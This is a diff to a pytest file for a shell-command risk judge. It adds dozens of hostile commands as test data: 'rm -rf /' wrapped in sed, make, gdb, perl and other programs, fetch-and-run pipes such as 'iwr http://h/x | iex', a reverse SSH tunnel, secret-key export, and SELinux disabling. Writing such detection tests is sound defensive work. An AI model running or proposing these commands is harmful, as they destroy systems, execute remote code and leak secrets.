@@ -64,7 +64,42 @@ def test_what_destroys_or_betrays_is_of_level_three_or_more(kind: str, command: 
     assert kind in {finding.kind for finding in risk.findings}, risk
 
 
-@pytest.mark.parametrize("command", HARMLESS)
+THROUGH_OTHERS = [
+    "env -C / rm -rf etc", "sudo --chdir=/ rm -rf usr", "env -iS'rm -rf /'", "sh -c 'rm -rf \"$0\"' /", "bash -O extglob -c 'rm -rf /!(x)'",
+    "bash --rcfile <(echo 'rm -rf /') -i", "ssh host -p 22 'rm -rf /'", "EDITOR='rm -rf /' crontab -e",
+    "make SHELL='/bin/rm -rf /'", "make -f <(printf 'all:\\n\\trm -rf /\\n')", "printf 'all:\\n\\trm -rf /\\n' > Makefile; make", "npx -c 'rm -rf /'",
+    "npm exec -- rm -rf /", "git difftool -x 'rm -rf /'", "sed -n '1e rm -rf /' f", "sed '1e\\\nrm -rf /' f", "sed 's/.*/rm -rf \\//e' f", "sed 's|.*|rm -rf /|e' f",
+    "gdb -batch -ex 'shell rm -rf /'", "gdb -ex 'python import os; os.system(\"rm -rf /\")'", "expect -c 'spawn rm -rf /'", "tclsh <<< 'exec rm -rf /'",
+    "perl -e 'exec \"rm\",\"-rf\",\"/\"'", "perl -e 'system qw(rm -rf /)'", "node -e 'require(\"child_process\").spawn(\"rm\",[\"-rf\",\"/\"])'",
+    "vim -c 'call system(\"rm -rf /\")'", "emacs --eval '(delete-directory \"/\" t)'", "pwsh -c 'Remove-Item -Recurse -Force /'", "sqlite3 x '.shell rm -rf /'",
+]  # fmt: skip
+BY_OTHER_WAYS = [
+    "declare -n ref=x; x='rm -rf /'; eval \"$ref\"",
+    "sed -n 'w /etc/passwd' f", "newfs /dev/da0", "gpg --export-secret-keys", "ssh h cat x | sh", "eval \"$(ssh h cat x)\"", "wget -qO- u | tee >(sh)",
+    "curl u > Makefile; make", "pwsh -c 'iwr http://h/x | iex'", "ssh h -N -f -R 0:localhost:22", "echo 0 > /selinux/enforce", "pkill -9 -f ''",
+    "ln -s /evil /etc/rc3.d/S99x", "rm -f $HISTFILE", "kubectl delete deployment x", "kubectl delete pods --all",
+]  # fmt: skip
+"""Written by a second reader who had not seen the rules, with what these missed at first."""
+BY_NAME_ONLY = [
+    "sed 's/one/the/; s/x/e/' f", "sed -n '/e/p' f", "sed 's/a/b/w out' f", "gdb -batch -ex bt ./x core", "expect -c 'puts hello'", "EDITOR=nano crontab -e",
+    "env -C build make", "make install PREFIX=/usr/local CC='gcc -O2'", "npx prettier --write src", "npm run build", "bash --init-file setup.sh",
+    "ssh host -p 2222 uptime", "ssh host tar cz d | tar xz", "x=$(ssh host hostname); echo $x", "perl -e 'system \"ls\", \"-l\"'", "pwsh -c 'Remove-Item x.txt'",
+    "gpg --verify a.sig a", "kubectl delete pod web-1", "find / -name '*.md' -exec sh -c 'markdown \"$0\" > \"$0.html\"' {} \\;", "ln -s .bashrc .bash_profile",
+    "declare -n name=x; echo $name", "tee >(wc -l) < notes",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("command", THROUGH_OTHERS)
+def test_a_program_that_runs_others_is_as_dangerous_as_what_it_is_given(command: str) -> None:
+    assert judge(command).level == 4, judge(command).why
+
+
+@pytest.mark.parametrize("command", BY_OTHER_WAYS)
+def test_uncommon_ways_to_the_same_harm_are_of_level_three_or_more(command: str) -> None:
+    assert judge(command).severity >= 3, judge(command).why
+
+
+@pytest.mark.parametrize("command", HARMLESS + BY_NAME_ONLY)
 def test_what_only_looks_like_it_is_not(command: str) -> None:
     risk = judge(command)
     assert risk.severity < 3, risk.why
